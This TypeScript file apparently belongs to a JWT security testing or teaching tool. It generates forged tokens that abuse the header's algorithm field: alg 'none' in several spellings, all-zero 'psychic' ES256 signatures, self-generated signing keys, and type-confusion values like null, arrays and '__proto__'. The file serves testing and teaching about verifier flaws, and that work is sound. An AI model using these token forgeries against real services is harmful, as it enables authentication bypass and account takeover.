import { generateKeyPairSync, randomBytes, sign as signWithKey } from 'node:crypto';
import type { Attack } from '../attack.ts';
import type { AttackSession } from '../attack-session.ts';
import {
  type AttackDefaults,
  type SignedTokenAttack,
  signedTokenAttacks,
  type TokenAttack,
  tokenAttacks,
} from '../define-attacks.ts';
import { forge, type Part, segment, segmentsOf } from '../forge.ts';
import type { AttackId } from '../message.ts';

const defaults: AttackDefaults = {
  group: 'algorithm',
  lesson: 4,
  advice: 'algorithm',
};

/** Tokens whose header chooses another algorithm (RFC 8725, 2.1). */
export const algorithm: Attack[] = [
  ...tokenAttacks(defaults, [
    {
      id: 'alg-none',
      token: (session) => unsigned(session, { alg: 'none' }),
    },
    {
      id: 'alg-none-capital',
      token: (session) => unsigned(session, { alg: 'None' }),
    },
    {
      id: 'alg-none-capitals',
      token: (session) => unsigned(session, { alg: 'NONE' }),
    },
    {
      id: 'alg-none-mixed',
      token: (session) => unsigned(session, { alg: 'nOnE' }),
    },
    {
      id: 'alg-empty',
      token: (session) => unsigned(session, { alg: '' }),
    },
    {
      id: 'alg-none-old-signature',
      token: ({ token, claims }) => {
        const [, , signature] = segmentsOf(token);
        return `${segment({ typ: 'JWT', alg: 'none' })}.${segment(claims)}.${signature}`;
      },
    },
    {
      id: 'alg-rs256-own-key',
      token: (session) => {
        const text = unsigned(session, { alg: 'RS256' }).slice(0, -1);
        const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
        const signature = signWithKey('sha256', Buffer.from(text), privateKey);
        return `${text}.${signature.toString('base64url')}`;
      },
    },
    {
      id: 'alg-es256-own-key',
      token: (session) => {
        const text = unsigned(session, { alg: 'ES256' }).slice(0, -1);
        const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
        const key = { key: privateKey, dsaEncoding: 'ieee-p1363' } as const;
        return `${text}.${signWithKey('sha256', Buffer.from(text), key).toString('base64url')}`;
      },
    },
    {
      id: 'alg-es256-psychic',
      token: (session) => `${unsigned(session, { alg: 'ES256' })}MAYCAQACAQA`,
    },
    {
      id: 'alg-es256-zeros',
      token: (session) => unsigned(session, { alg: 'ES256' }) + segment(new Uint8Array(64)),
    },
    ...(['rs256', 'es256', 'ps256', 'eddsa'] as const).flatMap((name): TokenAttack[] => {
      const alg = name === 'eddsa' ? 'EdDSA' : name.toUpperCase();
      return [
        { id: `alg-${name}-unsigned`, token: (session) => unsigned(session, { alg }) },
        {
          id: `alg-${name}-random`,
          token: (session) => unsigned(session, { alg }) + segment(randomBytes(64)),
        },
      ];
    }),
  ]),

  ...signedTokenAttacks(defaults, [
    {
      id: 'alg-hs384-same-secret',
      token: ({ claims }, secret) =>
        forge(claims, secret, { header: { typ: 'JWT', alg: 'HS384' }, hash: 'sha384' }),
    },
    {
      id: 'alg-hs512-same-secret',
      token: ({ claims }, secret) =>
        forge(claims, secret, { header: { typ: 'JWT', alg: 'HS512' }, hash: 'sha512' }),
    },
    ...withHeaders([
      ['alg-none-signed', { alg: 'none' }],
      ['alg-hs384-label', { alg: 'HS384' }],
      ['alg-hs512-label', { alg: 'HS512' }],
      ['alg-rs256-label', { alg: 'RS256' }],
      ['alg-missing', { typ: 'JWT' }],
      ['alg-null', { alg: null }],
      ['alg-zero', { alg: 0 }],
      ['alg-true', { alg: true }],
      ['alg-array', { alg: ['HS256'] }],
      ['alg-object', { alg: {} }],
      ['alg-to-string', '{"alg":{"toString":"HS256"}}'],
      ['alg-small', { alg: 'hs256' }],
      ['alg-space', { alg: 'HS256 ' }],
      ['alg-nul', { alg: 'HS256\0' }],
      ['alg-constructor', { alg: 'constructor' }],
      ['alg-proto', { alg: '__proto__' }],
      ['alg-name-in-capitals', { ALG: 'HS256' }],
    ]),
  ]),
];

/** A token with another header and an empty signature, which ends with the second dot. */
function unsigned({ claims }: AttackSession, header: object): string {
  return `${segment({ typ: 'JWT', ...header })}.${segment(claims)}.`;
}

/** Tokens that are signed with HS256 and the right secret, but whose header says something else. */
function withHeaders(rows: [id: AttackId, header: Part][]): SignedTokenAttack[] {
  return rows.map(([id, header]) => ({
    id,
    token: ({ claims }, secret) => forge(claims, secret, { header }),
  }));
}
